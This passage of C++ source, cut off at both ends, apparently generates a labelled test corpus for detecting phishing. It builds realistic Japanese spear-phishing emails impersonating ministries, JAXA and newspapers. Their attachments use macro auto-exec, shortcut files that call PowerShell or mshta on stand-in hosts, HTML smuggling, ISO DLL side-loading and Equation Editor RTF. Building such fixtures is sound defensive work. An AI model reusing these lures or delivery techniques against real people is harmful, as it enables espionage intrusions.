                         std::string(64, '\x41') + "kagami evaluation fixture";
    body += rtf::object("Equation.3", rtf::hex(rtf::ole1("Equation.3", native)),
                        "\\objemb\\objupdate\\objw2180\\objh300");
    return rtf::document(body);
}

std::string program(const std::string& description, const std::string& original) {
    pe::Options o;
    o.imports = {{"KERNEL32.dll", {"GetModuleFileNameW", "CreateFileW", "Sleep"}, {}}};
    o.version_strings = {{"FileDescription", description},
                         {"OriginalFilename", original},
                         {"CompanyName", "Adobe Inc."}};
    return pe::build(o);
}

std::string library(const std::string& dll_name, const std::vector<std::string>& exports) {
    pe::Options o;
    o.dll = true;
    o.pe64 = true;
    o.dll_name = dll_name;
    o.exports = exports;
    o.imports = {{"KERNEL32.dll", {"VirtualProtect", "GetProcAddress", "LoadLibraryW"}, {}}};
    return pe::build(o);
}

std::string plain_zip(const std::vector<EvalFile>& files) {
    zip::Builder b;
    for (const auto& f : files) {
        zip::Item i;
        i.name = f.name;
        i.data = f.data;
        i.utf8_flag = !ascii(f.name);
        b.add(std::move(i));
    }
    return b.build();
}

/// A page that rebuilds `payload` in the browser and saves it as `file_name`.
std::string smuggling_page(const std::string& payload, const std::string& file_name,
                           const std::string& title, const std::string& visible) {
    std::string b64 = base64(payload, 0);
    std::string chunks;
    for (std::size_t i = 0; i < b64.size(); i += 100)
        chunks += (i ? " +\r\n    \"" : "\"") + b64.substr(i, 100) + "\"";
    return "<!DOCTYPE html>\r\n<html lang=\"ja\"><head><meta charset=\"utf-8\"><title>" + title +
           "</title>\r\n<style>body{font-family:Meiryo,sans-serif;background:#f3f3f3}"
           ".box{margin:80px auto;width:420px;background:#fff;padding:24px}</style></head>\r\n"
           "<body><div class=\"box\"><p>" +
           visible + "</p></div>\r\n<script>\r\n  var n = \"" + file_name +
           "\";\r\n  var d = " + chunks +
           ";\r\n  var s = window.atob(d), u = new Uint8Array(s.length);\r\n"
           "  for (var i = 0; i < s.length; i++) { u[i] = s.charCodeAt(i); }\r\n"
           "  var b = new Blob([u], {type: \"application/octet-stream\"});\r\n"
           "  if (window.navigator.msSaveOrOpenBlob) { window.navigator.msSaveOrOpenBlob(b, n); "
           "}\r\n"
           "  else { var a = document.createElement(\"a\"); a.href = URL.createObjectURL(b);\r\n"
           "    a.download = n; document.body.appendChild(a); a.click(); }\r\n"
           "</script></body></html>\r\n";
}

std::string calendar(const std::string& uid, const std::string& organizer_cn,
                     const std::string& organizer, const std::string& attendee,
                     const std::string& start_utc, const std::string& end_utc,
                     const std::string& summary, const std::string& location,
                     const std::string& description) {
    return "BEGIN:VCALENDAR\nPRODID:-//Microsoft Corporation//Outlook 16.0 MIMEDIR//EN\n"
           "VERSION:2.0\nMETHOD:REQUEST\nBEGIN:VEVENT\nUID:" +
           uid + "\nDTSTAMP:20241120T010000Z\nDTSTART:" + start_utc + "\nDTEND:" + end_utc +
           "\nORGANIZER;CN=\"" + organizer_cn + "\":mailto:" + organizer +
           "\nATTENDEE;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=TRUE:mailto:" + attendee +
           "\nSUMMARY:" + summary + "\nLOCATION:" + location + "\nDESCRIPTION:" + description +
           "\nSEQUENCE:0\nSTATUS:CONFIRMED\nEND:VEVENT\nEND:VCALENDAR\n";
}

}  // namespace

namespace {

// ---- envelopes -------------------------------------------------------------------------------

/// Trace fields as the recipient's gateway leaves them: its Received, its
/// Authentication-Results, then the sender side's hops (already formatted).
std::vector<std::string> trace(const std::string& return_path, const std::string& top_received,
                               const std::string& auth, std::vector<std::string> inner = {}) {
    std::vector<std::string> t = {"Return-Path: <" + return_path + ">", top_received};
    if (!auth.empty()) t.push_back(auth);
    for (auto& i : inner) t.push_back(std::move(i));
    return t;
}

/// Gmail's own submission hop (Google writes it in Pacific time).
std::string gmail_hop(const std::string& id, const std::string& date_pacific) {
    return "Received: by 2002:a05:6a20:" + id + " with SMTP id " + id +
           "csp4418192pzb;\r\n        " + date_pacific;
}

std::string gmail_auth(const std::string& receiver, const std::string& addr) {
    return auth_results(receiver, "pass", addr, "pass", "gmail.com", "pass", "gmail.com");
}

struct Collector {
    std::vector<LabelledMessage> out;
    void add(std::string name, bool malicious, std::string technique, std::string language,
             const Mail& m) {
        int serial = static_cast<int>(out.size());
        out.push_back({std::move(name), malicious, std::move(technique), std::move(language),
                       compose(m, serial)});
    }
};

// ---- the intel cases' values (evaluation_feed() lists them) ----------------------------------

const std::string kFeedUrl = "https://filebox.kaigi-share.example/d/7Hq2Lx9Rk/";
const std::string kFeedUrl2 = "https://share.pacific-forum-files.example/s/IPEF-draft-v3";
const std::string kFeedDomain = "update-check.test";
const std::string kFeedIp = "203.0.113.77";
const std::string kFeedSender = "kokusai.seminar.office@gmail.com";

/// The attachment whose SHA-256 the feed lists: a plain docx with nothing else to find.
std::string feed_hash_document() {
    return word_docx({"経済安全保障推進法に基づく特定重要物資の指定について(検討メモ)",
                      "1. 半導体及び先端電子部品のサプライチェーン強靱化",
                      "2. 重要技術の流出防止に向けた民間企業との情報共有",
                      "3. 今後の日程: 12月中旬に関係省庁連絡会議"});
}

// ---- malicious, Japanese ---------------------------------------------------------------------

void malicious_ja(Collector& c) {
    {
        // MirrorFace's best-known shape: free mail posing as MOFA, a password-protected ZIP,
        // the password in the same mail, a shortcut with a Word name inside.
        Mail m;
        std::string to = "kobayashi.h@example.go.jp";
        m.trace = trace("mofa.hokubei.anpo@gmail.com",
                        received("mail-pl1-f172.google.com", "198.51.100.172", "mx01.example.go.jp",
                                 "4XkT2m0sQbz9vDL", to, "Tue, 12 Nov 2024 10:04:51 +0900 (JST)"),
                        gmail_auth("mx01.example.go.jp", "mofa.hokubei.anpo@gmail.com"),
                        {gmail_hop("1a4c", "Mon, 11 Nov 2024 17:04:49 -0800 (PST)")});
        m.from_name = "外務省 北米局 日米安全保障条約課";
        m.from_addr = "mofa.hokubei.anpo@gmail.com";
        m.to = to;
        m.subject = "【至急】日米安全保障協議委員会(2+2)に向けた論点整理について";
        m.date = "Tue, 12 Nov 2024 10:04:46 +0900";
        m.message_id = "<CAJx8f2hQ9u3kZtW1m_0Pj4rVh2e+Ld7nA@mail.gmail.com>";
        m.text =
            "小林様\n\n"
            "いつも大変お世話になっております。\n"
            "外務省北米局日米安全保障条約課の山口です。\n\n"
            "来月予定されております日米安全保障協議委員会(2+2)に向けて、\n"
            "拡大抑止及び在日米軍再編に関する論点を整理いたしました。\n"
            "ご専門のお立場から、別添資料につきご意見を頂戴できれば幸いです。\n"
            "恐れ入りますが、11月15日(金)までにご返信いただけますと助かります。\n\n"
            "なお、資料は機微な内容を含むため、パスワード付きで送付しております。\n"
            "解凍パスワード:Anpo2+2#1112\n\n"
            "外部への転送はお控えくださいますようお願いいたします。\n\n"
            "----------------------------------------\n"
            "外務省 北米局 日米安全保障条約課\n"
            "山口 健太\n"
            "TEL:03-3580-3311(内線 2481)\n"
            "----------------------------------------\n";
        m.attachments.push_back(
            {"論点整理.zip", "application/x-zip-compressed",
             eval_encrypted_zip({{"日米2+2論点整理(取扱注意).docx.lnk",
                                  shortcut(kPowerShell, ps_args("cdn.hokubei-docs.test"), kWordIcon,
                                           "desktop-a1b2c3")}},
                                "Anpo2+2#1112")});
        c.add("mal_ja_mofa_gmail_encrypted_zip_lnk", true, "T1566.001 lnk-in-encrypted-zip", "ja",
              m);
    }
    {
        // A JAXA look-alike domain and a Word file whose template comes from it.
        Mail m;
        std::string to = "m.ito@space.example.ac.jp";
        m.trace = trace("kenkyu-renkei@jaxa-jp.org",
                        received("mail.jaxa-jp.org", "192.0.2.44", "mx.space.example.ac.jp",
                                 "9A3F21C07D", to, "Wed, 20 Nov 2024 14:12:09 +0900 (JST)"),
                        auth_results("mx.space.example.ac.jp", "pass", "jaxa-jp.org", "none", "",
                                     "none", "jaxa-jp.org"));
        m.from_name = "JAXA 研究開発部門 研究推進部";
        m.from_addr = "kenkyu-renkei@jaxa-jp.org";
        m.to = to;
        m.subject = "令和7年度 宇宙科学共同研究公募に関するご案内";
        m.date = "Wed, 20 Nov 2024 14:12:03 +0900";
        m.message_id = "<20241120051203.4471.kenkyu@jaxa-jp.org>";
        m.text =
            "伊藤 先生\n\n"
            "平素より宇宙航空研究開発機構の研究開発活動にご協力を賜り、誠にありがとうございます。\n"
            "令和7年度の宇宙科学共同研究の公募を開始いたしましたので、ご案内申し上げます。\n\n"
            "本年度は、月面探査及び小型衛星コンステレーションに関する共同研究を重点分野としておりま"
            "す。\n"
            "応募要領及び申請様式を添付いたしますので、ご確認ください。\n"
            "申請締切:令和6年12月13日(金)17時\n\n"
            "ご不明な点は本メールへご返信ください。\n\n"
            "国立研究開発法人 宇宙航空研究開発機構(JAXA)\n"
            "研究開発部門 研究推進部 共同研究担当\n";
        m.attachments.push_back(
            {"R7_共同研究申請様式.docx",
             "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
             word_docx({"令和7年度 宇宙科学共同研究 申請書", "1. 研究課題名", "2. 研究代表者",
                        "3. 研究計画の概要"},
                       "https://jaxa-jp.org/kyodo/template/R7_form.dotm")});
        c.add("mal_ja_jaxa_lookalike_remote_template", true, "T1221 remote-template", "ja", m);
    }
    {
        // A study group of lawmakers: an old-style Word file with an auto-exec macro.
        Mail m;
        std::string to = "hisho.tanabe@example.jp";
        m.trace = trace(
            "nichibei.giren.jimukyoku@yahoo.co.jp",
            received("sonic304-22.consmr.mail.kks.yahoo.co.jp", "198.51.100.88", "mx.example.jp",
                     "4D81A2F00B", to, "Thu, 21 Nov 2024 09:31:40 +0900 (JST)"),
            auth_results("mx.example.jp", "pass", "yahoo.co.jp", "pass", "yahoo.co.jp", "pass",
                         "yahoo.co.jp"));
        m.header_charset = "ISO-2022-JP";
        m.charset = "ISO-2022-JP";
        m.cte = "7bit";
        m.from_name = "日米国会議員連盟 事務局";
        m.from_addr = "nichibei.giren.jimukyoku@yahoo.co.jp";
        m.to = to;
        m.subject = "議員連盟 勉強会(12月4日)開催のご案内";
        m.date = "Thu, 21 Nov 2024 09:31:33 +0900";
        m.message_id = "<1732149093.8823.jimukyoku@yahoo.co.jp>";
        m.extra = {"X-Mailer: Yahoo Mail"};
        m.text =
            "田辺先生 事務所御中\n\n"
            "平素より大変お世話になっております。\n"
            "日米国会議員連盟事務局でございます。\n\n"
            "下記のとおり勉強会を開催いたしますので、ご案内申し上げます。\n\n"
            "日時:令和6年12月4日(水)8時00分から9時00分\n"
            "場所:衆議院第一議員会館 国際会議室\n"
            "テーマ:米国新政権の対日政策と日米同盟の今後\n"
            "講師:元駐米公使\n\n"
            "詳細及び出欠のご回答様式は添付ファイルをご覧ください。\n"
            "ファイルを開いた際に「コンテンツの有効化」を押していただくと、回答欄が表示されます。\n"
            "お手数ですが、11月29日までにご返信をお願いいたします。\n\n"
            "日米国会議員連盟 事務局\n";
        std::string code =
            "Sub AutoOpen()\r\n    Dim t As String\r\n    t = Environ(\"TEMP\") & "
            "\"\\wrd4410.tmp\"\r\n"
            "    Shell \"cmd.exe /c echo kagami-evaluation > \" & t, vbHide\r\n"
            "    ActiveDocument.Range.Font.Hidden = False\r\nEnd Sub\r\n";
        m.attachments.push_back({"勉強会ご案内・出欠回答.doc", "application/msword",
                                 word_doc_with_macro("", "NewMacros", code), "2047-jis"});
        c.add("mal_ja_giren_study_group_doc_autoopen_shell", true, "T1566.001 vba-autoexec-shell",
              "ja", m);
    }
    {
        // Taiwan Strait analysis in an RTF with an Equation Editor object, Shift_JIS body.
        Mail m;
        std::string to = "t.fujita@example.or.jp";
        m.trace = trace(
            "nids.chiiki.kenkyu@outlook.jp",
            received("JPN01-OS0-obe.outbound.protection.outlook.com", "192.0.2.19",
                     "mx.example.or.jp", "7C20E91A44", to, "Mon, 25 Nov 2024 16:22:15 +0900 (JST)"),
            auth_results("mx.example.or.jp", "pass", "outlook.jp", "pass", "outlook.jp", "pass",
                         "outlook.jp"));
        m.charset = "Shift_JIS";
        m.cte = "base64";
        m.from_name = "防衛研究所 地域研究部 中国研究室";
        m.from_addr = "nids.chiiki.kenkyu@outlook.jp";
        m.to = to;
        m.subject = "台湾海峡情勢に関する分析メモ(ご意見照会)";
        m.date = "Mon, 25 Nov 2024 16:22:10 +0900";
        m.message_id = "<TYCPR01MB8420A1C3F0D2@TYCPR01MB8420.jpnprd01.prod.outlook.com>";
        m.text =
            "藤田様\n\n"
            "突然のご連絡失礼いたします。\n"
            "防衛研究所地域研究部の佐々木と申します。\n\n"
            "先般の中国人民解放軍による台湾周辺での大規模演習を踏まえ、\n"
            "台湾海峡における今後の軍事動向と我が国への影響について分析メモを作成いたしました。\n"
            "貴研究所のご見解を伺いたく、ご多忙のところ恐縮ですが、\n"
            "添付のメモにつきコメントを頂戴できますでしょうか。\n\n"
            "なお、本メモは部内限りの検討資料ですので、取扱いにご留意ください。\n\n"
            "防衛省 防衛研究所 地域研究部\n"
            "佐々木 直人\n";
        m.attachments.push_back(
            {"台湾海峡情勢分析メモ.doc", "application/msword",
             rtf_with_equation({"{\\b Taiwan Strait: PLA exercise assessment (draft)}",
                                "Section 1. Overview", "Section 2. Implications for Japan"}),
             "2047-utf8"});
        c.add("mal_ja_taiwan_rtf_equation_editor", true, "T1203 rtf-equation-editor", "ja", m);
    }
    {
        // An ISO image with a shortcut and a DLL to side-load, from a METI look-alike.
        Mail m;
        std::string to = "k.nakamura@example.co.jp";
        m.trace = trace("boeki-kanri@meti-go-jp.com",
                        received("smtp.meti-go-jp.com", "203.0.113.21", "mx-in.example.co.jp",
                                 "4Y0b7kQWc3z1", to, "Tue, 26 Nov 2024 11:40:02 +0900 (JST)"),
                        auth_results("mx-in.example.co.jp", "softfail", "meti-go-jp.com", "none",
                                     "", "none", "meti-go-jp.com"),
                        {received("[192.168.1.5]", "198.51.100.5", "smtp.meti-go-jp.com", "A1B2C3",
                                  to, "Tue, 26 Nov 2024 10:40:00 +0800")});
        m.from_name = "経済産業省 貿易経済安全保障局 貿易管理部";
        m.from_addr = "boeki-kanri@meti-go-jp.com";
        m.to = to;
        m.subject = "半導体製造装置に係る輸出管理強化に関する説明会資料の送付";
        m.date = "Tue, 26 Nov 2024 11:39:58 +0900";
        m.message_id = "<a8f1e0c2-55d3-4b1e-9c0a-3f6e2b7d9011@meti-go-jp.com>";
        m.text =
            "株式会社 御中\n輸出管理ご担当者様\n\n"
            "平素より輸出管理行政にご理解とご協力を賜り、厚く御礼申し上げます。\n\n"
            "先般実施いたしました「先端半導体製造装置に係る輸出管理の見直しに関する説明会」の\n"
            "資料を送付いたします。添付のファイルを開き、「説明会資料」をご確認ください。\n"
            "該非判定の考え方に変更がありますので、社内の関係部署への周知をお願いいたします。\n\n"
            "本件に関するお問い合わせは、安全保障貿易審査課までお願いいたします。\n\n"
            "経済産業省 貿易経済安全保障局 貿易管理部\n安全保障貿易管理課\n";
        m.attachments.push_back(
            {"説明会資料.iso", "application/octet-stream",
             eval_iso_image(
                 {{"Setsumeikai_Shiryo.pdf.lnk",
                   shortcut("C:\\Windows\\System32\\rundll32.exe",
                            "version.dll,GetFileVersionInfoByHandle", kPdfIcon, "win-build-07")},
                  {"version.dll",
                   library("version.dll", {"GetFileVersionInfoByHandle", "GetFileVersionInfoW",
                                           "VerQueryValueW"})}},
                 "METI_SETSUMEIKAI")});
        c.add("mal_ja_meti_lookalike_iso_lnk_dll", true, "T1553.005 iso-lnk-dll-sideload", "ja", m);
    }
    {
        // A zipped program whose name ends in .pdf.exe, North Korea missiles.
        Mail m;
        std::string to = "kobayashi.h@example.go.jp";
        m.trace = trace("cas.nss.jouhou@outlook.com",
                        received("APC01-TYZ-obe.outbound.protection.outlook.com", "192.0.2.140",
                                 "mx01.example.go.jp", "4XlR8c1Yv9z3", to,
                                 "Fri, 29 Nov 2024 08:15:33 +0900 (JST)"),
                        auth_results("mx01.example.go.jp", "pass", "outlook.com", "pass",
                                     "outlook.com", "pass", "outlook.com"));
        m.from_name = "内閣官房 国家安全保障局";
        m.from_addr = "cas.nss.jouhou@outlook.com";
        m.to = to;
        m.subject = "北朝鮮の弾道ミサイル発射に関する報告書(11/28)";
        m.date = "Fri, 29 Nov 2024 08:15:29 +0900";
        m.message_id = "<OS3P286MB1985C6D0A7@OS3P286MB1985.JPNP286.PROD.OUTLOOK.COM>";
        m.text =
            "関係各位\n\n"
            "昨日(11月28日)の北朝鮮による弾道ミサイル発射事案について、\n"
            "現時点で判明している事実関係及び分析を報告書として取りまとめました。\n"
            "関係者限りでの共有をお願いいたします。\n\n"
            "添付のZIPファイルを展開のうえ、報告書をご確認ください。\n\n"
            "内閣官房 国家安全保障局\n情報班\n";
        m.attachments.push_back({"報告書_1128.zip", "application/zip",
                                 plain_zip({{"北朝鮮弾道ミサイル発射に関する報告書.pdf.exe",
                                             program("Adobe Acrobat Reader", "AcroRd32.exe")}})});
        c.add("mal_ja_nss_double_extension_exe_in_zip", true, "T1036.007 double-extension-exe",
              "ja", m);
    }
    {
        // HTML smuggling: a page that writes a ZIP holding a shortcut.
        Mail m;
        std::string to = "y.sato@example.ac.jp";
        m.trace = trace("yomiuri.seijibu.kisha@gmail.com",
                        received("mail-oa1-f51.google.com", "198.51.100.51", "mx.example.ac.jp",
                                 "B7E1C0FF21", to, "Mon, 2 Dec 2024 13:05:20 +0900 (JST)"),
                        gmail_auth("mx.example.ac.jp", "yomiuri.seijibu.kisha@gmail.com"),
                        {gmail_hop("7e90", "Sun, 1 Dec 2024 20:05:17 -0800 (PST)")});
        m.from_name = "読売新聞 政治部 記者 中川";
        m.from_addr = "yomiuri.seijibu.kisha@gmail.com";
        m.to = to;
        m.subject = "取材のお願い:ロシア・ウクライナ情勢と対ロ制裁について";
        m.date = "Mon, 2 Dec 2024 13:05:14 +0900";
        m.message_id = "<CAH3e9vQ4Lr0tPz2h8_KX1ymBd7s@mail.gmail.com>";
        m.text =
            "佐藤先生\n\n"
            "読売新聞政治部の中川と申します。突然のご連絡失礼いたします。\n\n"
            "ロシアによるウクライナ侵略の長期化を受け、日本の対ロ制裁の実効性について\n"
            "特集記事を準備しております。先生のご論考を拝読し、ぜひお話を伺いたいと考えました。\n\n"
            "質問事項を添付いたしましたので、ご確認いただけますでしょうか。\n"
            "(社内のセキュリティ規定により、ブラウザで開く形式となっております)\n\n"
            "ご多忙のところ恐縮ですが、よろしくお願い申し上げます。\n\n"
            "読売新聞東京本社 政治部\n中川 亮\n";
        std::string inner = plain_zip(
            {{"質問事項.docx.lnk",
              shortcut(kPowerShell, ps_args("media-cdn.kisha-share.test"), kWordIcon, "laptop-k7")},
             {"readme.txt", "Please open the document.\r\n"}});
        m.attachments.push_back(
            {"質問事項.html", "text/html",
             smuggling_page(inner, "shitsumon.zip", "質問事項",
                            "ファイルをダウンロードしています。しばらくお待ちください。")});
        c.add("mal_ja_media_html_smuggling_zip_lnk", true, "T1027.006 html-smuggling", "ja", m);
    }
    {
        // Only the link is known bad: it is on the feed.
        Mail m;
        std::string to = "t.fujita@example.or.jp";
        m.trace = trace("info@kokusai-forum.example",
                        received("mail.kokusai-forum.example", "198.51.100.140", "mx.example.or.jp",
                                 "3E77A0C912", to, "Tue, 3 Dec 2024 10:20:44 +0900 (JST)"),
                        auth_results("mx.example.or.jp", "pass", "kokusai-forum.example", "pass",
                                     "kokusai-forum.example", "pass", "kokusai-forum.example"));
        m.from_name = "国際安全保障フォーラム 事務局";
        m.from_addr = "info@kokusai-forum.example";
        m.to = to;
        m.subject = "第12回 インド太平洋安全保障フォーラム 講演資料のご共有";
        m.date = "Tue, 3 Dec 2024 10:20:40 +0900";
        m.message_id = "<20241203012040.0f3a9c@kokusai-forum.example>";
        m.cte = "quoted-printable";
        m.text =
            "藤田 様\n\n"
            "先日はフォーラムにご登壇いただき、誠にありがとうございました。\n"
            "当日の講演資料及び議事概要を、下記のファイル共有サービスにアップロードいたしました。\n"
            "容量の関係でメールに添付できませんので、こちらからダウンロードをお願いいたします。\n"
            "\n" +
            kFeedUrl +
            "\n(公開期限:12月10日)\n\n"
            "今後ともどうぞよろしくお願いいたします。\n\n"
            "国際安全保障フォーラム 事務局\n";
        c.add("mal_ja_forum_link_on_feed", true, "T1566.002 intel-url", "ja", m);
    }
    {
        // First contact from an address the feed lists; no attachment, no link.
        Mail m;
        std::string to = "y.sato@example.ac.jp";
        m.trace = trace(kFeedSender,
                        received("mail-ej1-f44.google.com", "198.51.100.44", "mx.example.ac.jp",
                                 "C0FFEE4411", to, "Wed, 4 Dec 2024 18:44:02 +0900 (JST)"),
                        gmail_auth("mx.example.ac.jp", kFeedSender),
                        {gmail_hop("93b1", "Wed, 4 Dec 2024 01:43:59 -0800 (PST)")});
        m.from_name = "国際政治セミナー 運営事務局";
        m.from_addr = kFeedSender;
        m.to = to;
        m.subject = "ご講演のお願い(日米関係セミナー)";
        m.date = "Wed, 4 Dec 2024 18:43:57 +0900";
        m.message_id = "<CAB7ZpQ0mK2yW4c9xR@mail.gmail.com>";
        m.text =
            "佐藤 先生\n\n"
            "初めてご連絡差し上げます。国際政治セミナー運営事務局の木村と申します。\n\n"
            "来年2月に、日米関係の今後をテーマとした非公開セミナーを企画しております。\n"
            "先生にご講演をお願いできないかと考え、ご連絡いたしました。\n"
            "謝金及び交通費は当方にて負担いたします。\n\n"
            "ご関心をお持ちいただけるようでしたら、企画書をお送りいたしますので、\n"
            "本メールにご返信いただけますと幸いです。\n\n"
            "国際政治セミナー 運営事務局\n木村 彩\n";
        c.add("mal_ja_first_contact_sender_on_feed", true, "T1598 intel-sender", "ja", m);
    }
    {
        // A plain document whose hash the feed lists, from a mail that otherwise looks fine.
        Mail m;
        std::string to = "kobayashi.h@example.go.jp";
        m.trace = trace("s.hayashi@keizai-anpo.example",
                        received("mail.keizai-anpo.example", "192.0.2.201", "mx01.example.go.jp",
                                 "4XpQ5n2Rm8z7", to, "Thu, 5 Dec 2024 15:02:31 +0900 (JST)"),
                        auth_results("mx01.example.go.jp", "pass", "keizai-anpo.example", "pass",
                                     "keizai-anpo.example", "pass", "keizai-anpo.example"));
        m.from_name = "林 俊介";
        m.from_addr = "s.hayashi@keizai-anpo.example";
        m.to = to;
        m.subject = "Re: 特定重要物資の件";
        m.date = "Thu, 5 Dec 2024 15:02:27 +0900";
        m.message_id = "<7d0e5b3a-2c41-4a8e-b1f0-9a8c6e4d2f10@keizai-anpo.example>";
        m.extra = {"In-Reply-To: <f1e2d3c4-b5a6-4978-8899-aabbccddeeff@example.go.jp>"};
        m.text =
            "小林様\n\n"
            "お世話になっております。林です。\n"
            "先日お話しした特定重要物資の指定に関する検討メモを添付いたします。\n"
            "ご確認のほど、よろしくお願いいたします。\n\n"
            "林\n";
        m.attachments.push_back(
            {"検討メモ.docx",
             "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
             feed_hash_document()});
        c.add("mal_ja_attachment_hash_on_feed", true, "T1566.001 intel-file-hash", "ja", m);
    }
    {
        // MOD spoofed on its real domain: SPF and DMARC fail; the link goes to a look-alike.
        Mail m;
        std::string to = "k.nakamura@example.co.jp";
        m.trace = trace("info@mod.go.jp",
                        received("vps-2291.hosting.example", "203.0.113.140", "mx-in.example.co.jp",
                                 "4Y3a9PzKd1z2", to, "Mon, 9 Dec 2024 09:12:45 +0900 (JST)"),
                        auth_results("mx-in.example.co.jp", "fail", "mod.go.jp", "none", "", "fail",
                                     "mod.go.jp"));
        m.from_name = "防衛省 防衛装備庁 調達事業部";
        m.from_addr = "info@mod.go.jp";
        m.to = to;
        m.subject = "【防衛装備庁】令和7年度 装備品調達に係る入札説明書の公開について";
        m.date = "Mon, 9 Dec 2024 09:12:40 +0900";
        m.message_id = "<20241209001240.55210@mod.go.jp>";
        m.html =
            "<html><body><p>登録事業者 各位</p>"
            "<p>令和7年度 防衛装備品の調達に係る入札説明書を公開いたしました。<br>"
            "競争参加資格の確認のため、下記の調達ポータルにログインのうえ、"
            "12月13日までに書類をダウンロードしてください。</p>"
            "<p><a href=\"https://portal.m0d-go.jp/chotatsu/login?id=R7-0211\">"
            "https://www.mod.go.jp/atla/chotatsu/</a></p>"
            "<p>期限までにご確認いただけない場合、参加資格が失効する場合があります。</p>"
            "<p>防衛省 防衛装備庁 調達事業部 調達企画課</p></body></html>";
        c.add("mal_ja_mod_spoof_dmarc_fail_lookalike_link", true, "T1566.002 spoof-lookalike-link",
              "ja", m);
    }
    {
        // MOFA look-alike domain m0fa.go.jp and an Excel 97-2003 workbook with a macro.
        Mail m;
        std::string to = "t.fujita@example.or.jp";
        m.trace = trace("seisaku-ka@m0fa.go.jp",
                        received("mail.m0fa.go.jp", "203.0.113.9", "mx.example.or.jp", "A9D0E11F2C",
                                 to, "Tue, 10 Dec 2024 17:30:12 +0900 (JST)"),
                        auth_results("mx.example.or.jp", "pass", "m0fa.go.jp", "pass", "m0fa.go.jp",
                                     "pass", "m0fa.go.jp"));
        m.from_name = "外務省 総合外交政策局 政策企画室";
        m.from_addr = "seisaku-ka@m0fa.go.jp";
        m.to = to;
        m.subject = "経済安全保障に関する有識者意見交換会(1月)出欠のご確認";
        m.date = "Tue, 10 Dec 2024 17:30:08 +0900";
        m.message_id = "<000a01db4aa3$7f1e2c40$7d5a84c0$@m0fa.go.jp>";
        m.extra = {"X-Mailer: Microsoft Outlook 16.0"};
        m.text =
            "藤田様\n\n"
            "外務省総合外交政策局政策企画室でございます。\n"
            "先日ご案内いたしました経済安全保障に関する有識者意見交換会につき、\n"
            "出欠表を添付いたします。\n"
            "マクロを有効にしてご所属・お名前をご記入のうえ、12月17日までにご返送ください。\n\n"
            "外務省 総合外交政策局 政策企画室\n";
        std::string code =
            "Private Sub Workbook_Open()\r\n    Dim c As String\r\n"
            "    c = \"powershell -nop -w hidden -c Write-Output kagami-evaluation\"\r\n"
            "    Shell c, vbHide\r\n    Sheets(1).Visible = True\r\nEnd Sub\r\n";
        m.attachments.push_back({"意見交換会_出欠表.xls", "application/vnd.ms-excel",
                                 excel_xls_with_macro(code), "2047-utf8"});
        c.add("mal_ja_m0fa_lookalike_xls_macro", true, "T1566.001 xls-workbook-open-shell", "ja",
              m);
    }
    {
        // A plain ZIP with a shortcut naming mshta; a Japanese newspaper look-alike that
        // claims Tokyo while its own hop was written at +0800.
        Mail m;
        std::string to = "hisho.tanabe@example.jp";
        m.trace = trace("henshu@nikkei-jp.com",
                        received("mta01.nikkei-jp.com", "203.0.113.61", "mx.example.jp",
                                 "5E0A1B2C3D", to, "Wed, 11 Dec 2024 11:02:19 +0900 (JST)"),
                        auth_results("mx.example.jp", "none", "nikkei-jp.com", "none", "", "none",
                                     "nikkei-jp.com"),
                        {received("[10.0.0.12]", "198.51.100.12", "mta01.nikkei-jp.com", "8812AB",
                                  to, "Wed, 11 Dec 2024 10:02:15 +0800")});
        m.from_name = "日本経済新聞社 編集局 政治・外交グループ";
        m.from_addr = "henshu@nikkei-jp.com";
        m.to = to;
        m.subject = "次期衆院選 情勢調査結果(速報版)のご送付";
        m.date = "Wed, 11 Dec 2024 10:02:15 +0800";
        m.message_id = "<20241211100215.61a@nikkei-jp.com>";
        m.text =
            "田辺事務所 ご担当者様\n\n"
            "日本経済新聞社編集局でございます。\n"
            "次期衆議院選挙に向けた選挙区別の情勢調査結果(速報版)をお送りいたします。\n"
            "議員連盟の勉強会資料としてもご活用ください。\n"
            "報道前の資料につき、取扱いにはご注意ください。\n\n"
            "日本経済新聞社 編集局\n";
        m.attachments.push_back({"情勢調査_速報版.zip", "application/zip",
                                 plain_zip({{"情勢調査結果_選挙区別.xlsx.lnk",
                                             shortcut("C:\\Windows\\System32\\mshta.exe",
                                                      "https://cdn.senkyo-data.test/view/r.hta",
                                                      kEdgeIcon, "pc-srv-02")}})});
        c.add("mal_ja_newspaper_lookalike_zip_lnk_mshta_tz", true, "T1566.001 lnk-mshta-in-zip",
              "ja", m);
    }
    {
        // A reply-chain lure: an encrypted ZIP of a macro document that downloads.
        Mail m;
        std::string to = "y.sato@example.ac.jp";
        m.trace = trace(
            "prof.takeda.lab@hotmail.co.jp",
            received("JPN01-TY1-obe.outbound.protection.outlook.com", "192.0.2.77",
                     "mx.example.ac.jp", "D00D5E1234", to, "Thu, 12 Dec 2024 21:14:50 +0900 (JST)"),
            auth_results("mx.example.ac.jp", "pass", "hotmail.co.jp", "pass", "hotmail.co.jp",
                         "pass", "hotmail.co.jp"));
        m.from_name = "武田 誠";
        m.from_addr = "prof.takeda.lab@hotmail.co.jp";
        m.to = to;
        m.subject = "Re: 【ご依頼】日中関係に関する共著原稿の確認";
        m.date = "Thu, 12 Dec 2024 21:14:46 +0900";
        m.message_id = "<TY3P286MB2611D04C9B@TY3P286MB2611.JPNP286.PROD.OUTLOOK.COM>";
        m.extra = {"In-Reply-To: <b2c3d4e5-0000-4aaa-9bbb-111122223333@example.ac.jp>"};
        m.text =
            "佐藤先生\n\n"
            "ご返信ありがとうございます。\n"
            "修正を反映した原稿をお送りします。大学のアドレスが不調のため、\n"
            "しばらくこちらのアドレスから失礼いたします。\n"
            "編集部の指示で、原稿はパスワード付きで送付しております。\n\n"
            "パスワード:Tk2024_genkou\n\n"
            "年内に編集部へ戻したいので、ご確認をお願いできれば幸いです。\n\n"
            "武田\n\n"
            "> 武田先生\n"
            "> 原稿拝受しました。第3節の日中首脳会談の記述について、\n"
            "> 最新の動向を反映した方がよいかと思います。\n"
            "> 佐藤\n";
        std::string code =
            "Private Declare PtrSafe Function URLDownloadToFile Lib \"urlmon\" Alias "
            "\"URLDownloadToFileA\" (ByVal pCaller As LongPtr, ByVal szURL As String, ByVal "
            "szFileName As String, ByVal dwReserved As Long, ByVal lpfnCB As LongPtr) As Long\r\n"
            "Sub AutoOpen()\r\n    Dim p As String\r\n    p = Environ(\"APPDATA\") & "
